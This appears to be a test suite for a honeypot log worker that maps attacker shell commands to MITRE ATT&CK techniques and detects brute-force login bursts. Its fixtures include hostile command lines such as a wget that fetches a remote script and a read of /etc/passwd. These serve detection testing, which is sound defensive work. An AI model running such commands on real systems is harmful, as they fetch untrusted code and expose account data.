import assert from 'node:assert/strict'
import {describe, it} from 'node:test'

import {migrateToLatest, openDatabase} from '../../../dist/db/index.js'
import {BRUTE_FORCE_RULE} from '../../../dist/workers/ttp/brute-force.js'
import {Matcher, tagId} from '../../../dist/workers/ttp/matcher.js'
import {loadRules} from '../../../dist/workers/ttp/rule-loader.js'
import {lookbackRanges, TTP_CURSOR, ttpTick} from '../../../dist/workers/ttp/tick.js'
import {DATABASE_KINDS, freshDatabase, skipReason} from '../../helpers/databases.js'
import {commandLog, failedLogin, insertLogs, minutes, readTags, resetCursor} from '../../helpers/ttp-logs.js'

const matcher = new Matcher((await loadRules()).rules)

async function setup(t, kind) {
  const database = await freshDatabase(kind, t)
  t.after(() => database.cleanup())
  const db = await openDatabase(database.url)
  t.after(() => db.destroy())
  await migrateToLatest(db)
  return db
}

async function drain(db, batchSize = 5000) {
  for (;;) {
    const result = await ttpTick(db, {batchSize, matcher})
    if (result.lines < batchSize) return result
  }
}

const bruteForceTags = async (db) => (await readTags(db)).filter((tag) => tag.rule_id === BRUTE_FORCE_RULE.id)

for (const kind of DATABASE_KINDS) {
  describe(`ttp tick (${kind})`, {skip: skipReason(kind)}, () => {
    it('stores one tag per (event, rule, technique) with its ATT&CK ids, rule, confidence and evidence', async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, [
        commandLog('203.0.113.7', 0, 'uname -a; wget http://198.51.100.9/x.sh'),
        {...commandLog('203.0.113.8', 1, ''), fields: '{}', msg: 'CMD uid=0 user=root src=203.0.113.8 pwd=/root cmd=cat /etc/passwd'},
        {...commandLog('203.0.113.9', 2, ''), event_type: 'connect', fields: '{"src_ip":"203.0.113.9"}'},
      ])
      const result = await ttpTick(db, {matcher})
      assert.deepEqual(result, {cursor: 3, lines: 3, tags: 4})

      const tags = await readTags(db)
      assert.deepEqual(tags.map((tag) => [tag.log_id, tag.rule_id, tag.tactic, tag.technique_id, tag.sub_technique_id]), [
        [1, 'command-and-control.ingress-tool-transfer', 'TA0011', 'T1105', null],
        [1, 'discovery.system-info', 'TA0007', 'T1082', null],
        [2, 'credential-access.passwd-file', 'TA0006', 'T1003', 'T1003.008'],
        [2, 'credential-access.passwd-file', 'TA0007', 'T1087', 'T1087.001'],
      ])
      const wget = tags[0]
      assert.equal(wget.id, tagId(1, 'command-and-control.ingress-tool-transfer', 'T1105'))
      assert.match(wget.id, /^[\da-f]{32}$/)
      assert.equal(wget.attacker_ip, '203.0.113.7')
      assert.equal(wget.rule_version, 1)
      assert.equal(wget.confidence, 0.8)
      assert.equal(wget.evidence, 'wget http://198.51.100.9/x.sh')
      assert.equal(wget.timestamp, minutes(0))
      assert.equal(tags[2].id, tagId(2, 'credential-access.passwd-file', 'T1003.008'))
      assert.equal(tags[2].confidence, 0.6, 'a per-technique confidence overrides the rule\'s')
      assert.equal(tags[2].evidence, 'cat /etc/passwd')
    })

    it('never duplicates a tag when lines are tagged again, and resumes from its cursor', async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, [commandLog('203.0.113.7', 0, 'id'), commandLog('203.0.113.7', 1, 'ps aux')])
      assert.deepEqual(await ttpTick(db, {matcher}), {cursor: 2, lines: 2, tags: 2})
      assert.deepEqual(await ttpTick(db, {matcher}), {cursor: 2, lines: 0, tags: 0})

      await insertLogs(db, [commandLog('203.0.113.7', 2, 'whoami'), commandLog('203.0.113.7', 3, 'echo hi')])
      assert.deepEqual(await ttpTick(db, {matcher}), {cursor: 4, lines: 2, tags: 1})
      const before = await readTags(db)
      assert.deepEqual(before.map((tag) => tag.log_id), [1, 2, 3])

      await resetCursor(db, TTP_CURSOR)
      assert.deepEqual(await drain(db, 1), {cursor: 4, lines: 0, tags: 0})
      assert.deepEqual(await readTags(db), before)
    })

    it('tags a brute-force burst once, on the fifth failure, whatever the tick boundaries', async (t) => {
      const db = await setup(t, kind)
      const rows = [
        // 203.0.113.7: eight failures in 3.5 minutes (one burst), then a new burst 20 minutes later
        ...[0, 0.5, 1, 1.5, 2, 2.5, 3, 3.5].map((at) => failedLogin('203.0.113.7', at)),
        // 203.0.113.8: six failures two minutes apart: never five within five minutes
        ...[0, 2, 4, 6, 8, 10].map((at) => failedLogin('203.0.113.8', at)),
        // 203.0.113.9: four failures and a success in a minute
        ...[0, 0.1, 0.2, 0.3].map((at) => failedLogin('203.0.113.9', at)),
        {...failedLogin('203.0.113.9', 0.4), event_type: 'login_success'},
        ...[20, 20.2, 20.4, 20.6, 20.8, 21].map((at) => failedLogin('203.0.113.7', at)),
      ]
      await insertLogs(db, rows)
      await drain(db)
      const expected = await bruteForceTags(db)
      assert.deepEqual(expected.map((tag) => [tag.log_id, tag.attacker_ip]), [[5, '203.0.113.7'], [24, '203.0.113.7']])
      assert.equal(expected[0].tactic, 'TA0006')
      assert.equal(expected[0].technique_id, 'T1110')
      assert.equal(expected[0].sub_technique_id, 'T1110.001')
      assert.equal(expected[0].id, tagId(5, BRUTE_FORCE_RULE.id, 'T1110.001'))
      assert.equal(expected[0].evidence, `5 failed authentications from 203.0.113.7 in 120 s (first at ${minutes(0)})`)

      for (const batchSize of [1, 2, 3, 4, 7]) {
        await db.deleteFrom('ttp_tags').execute()
        await resetCursor(db, TTP_CURSOR)
        await drain(db, batchSize)
        assert.deepEqual(await bruteForceTags(db), expected, `batch size ${batchSize}`)
      }
    })

    it('counts failures from earlier ticks when a burst straddles a tick boundary', async (t) => {
      const db = await setup(t, kind)
      await insertLogs(db, [1, 2, 3].map((at) => failedLogin('203.0.113.7', at)))
      assert.equal((await ttpTick(db, {matcher})).tags, 0)
      // the next tick: a failure that arrives late (timestamped before the others), one more, and one long after
      await insertLogs(db, [failedLogin('203.0.113.7', 0.5), failedLogin('203.0.113.7', 3.5), failedLogin('203.0.113.7', 10)])
      assert.equal((await ttpTick(db, {matcher})).tags, 1)
      const [tag] = await bruteForceTags(db)
      assert.equal(tag.log_id, 5)
      assert.equal(tag.evidence, `5 failed authentications from 203.0.113.7 in 180 s (first at ${minutes(0.5)})`)
    })
  })
}

describe('brute-force look-back ranges', () => {
  it('reads ten minutes before each run of an IP\'s new failures, not the whole span of the batch', () => {
    const failure = (ip, at, id) => ({id, ip, ms: Date.parse(minutes(at)), timestamp: minutes(at)})
    const ranges = lookbackRanges([failure('a', 0, 1), failure('b', 1, 2), failure('a', 5, 3), failure('a', 30, 4), failure('a', 600, 5)])
    assert.deepEqual(ranges, [
      {ip: 'a', since: minutes(-10), until: minutes(5)},
      {ip: 'a', since: minutes(20), until: minutes(30)},
      {ip: 'a', since: minutes(590), until: minutes(600)},
      {ip: 'b', since: minutes(-9), until: minutes(1)},
    ])
  })
})
